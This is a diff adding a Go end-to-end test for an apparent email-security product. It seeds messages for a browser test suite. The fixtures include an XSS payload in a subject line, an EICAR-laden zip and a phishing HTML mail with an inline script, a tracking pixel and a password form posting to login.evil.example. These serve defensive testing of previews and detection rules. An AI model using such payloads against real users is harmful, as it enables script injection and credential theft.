@@ -1,0 +1,59 @@
+package e2e
+
+import (
+	"bytes"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"testing"
+
+	"mailward/internal/testenv"
+)
+
+// TestBrowser seeds an installation through its SMTP port and hands it to the
+// browser suite, which uses it as an analyst would. The suite is node's, since
+// that is where Playwright and axe live; its output is this test's output.
+func TestBrowser(t *testing.T) {
+	testenv.Require(t, "node", "chromium")
+	hop := testenv.NextHop(t)
+	s := startServer(t, hop.Addr, "")
+	to := []string{"bob@ours.example"}
+	for subject, msg := range map[string][]byte{
+		"Quarterly report":                      text("Quarterly report", "Please find the numbers below."),
+		"Invoice 4711":                          yaraOnly("Invoice 4711"),
+		`"><img src=x onerror=alert(1)> invoice`: yaraOnly(`"><img src=x onerror=alert(1)> invoice`),
+		"Your parcel":                           attachment("Your parcel", "parcel.zip", "application/zip", zipped(t, "parcel.com", eicar())),
+		"Password expires today":                htmlMail("Password expires today"),
+	} {
+		rcpt := to
+		if subject == "Invoice 4711" {
+			rcpt = []string{"bob@ours.example", "carol@ours.example"}
+		}
+		if r := s.sendMail("mallory@sender.example", rcpt, msg); code(r) != 250 {
+			t.Fatalf("%s: %q", subject, r)
+		}
+	}
+	s.api("admin").itemBySubject("Your parcel")
+
+	cmd := exec.Command("npm", "run", "--silent", "e2e")
+	cmd.Dir = filepath.Join("..", "webui")
+	cmd.Env = append(os.Environ(), "BASE_URL=http://"+s.http, "ADMIN_EMAIL="+adminEmail, "ADMIN_PASSWORD="+adminPassword)
+	var out bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &out, &out
+	if err := cmd.Run(); err != nil {
+		t.Fatalf("browser suite: %v\n%s", err, out.String())
+	}
+	t.Log(tail(out.String(), 30))
+}
+
+// htmlMail is a form that asks for a password: harmless, and what our rule for
+// credential harvesting looks for. It also tries what a preview must not do.
+func htmlMail(subject string) []byte {
+	return []byte("From: IT Support <it@sender.example>\r\nTo: bob@ours.example\r\nSubject: " + subject +
+		"\r\nDate: Tue, 24 Nov 2026 10:00:00 +0000\r\nMessage-ID: <html@sender.example>\r\nMIME-Version: 1.0\r\n" +
+		"Content-Type: text/html; charset=utf-8\r\n\r\n<html><body><h1>Your password expires today</h1>" +
+		"<script>document.title='owned'</script><img src=\"http://tracker.example/p.gif\">\r\n" +
+		"<p>Click <a href=\"http://login.evil.example/verify\">here</a> or sign in:</p>\r\n" +
+		"<form action=\"http://login.evil.example/post\" method=\"post\"><input name=\"email\"><input type=\"password\" name=\"password\">" +
+		"<input type=\"submit\" value=\"Sign in\"></form></body></html>\r\n")
+}
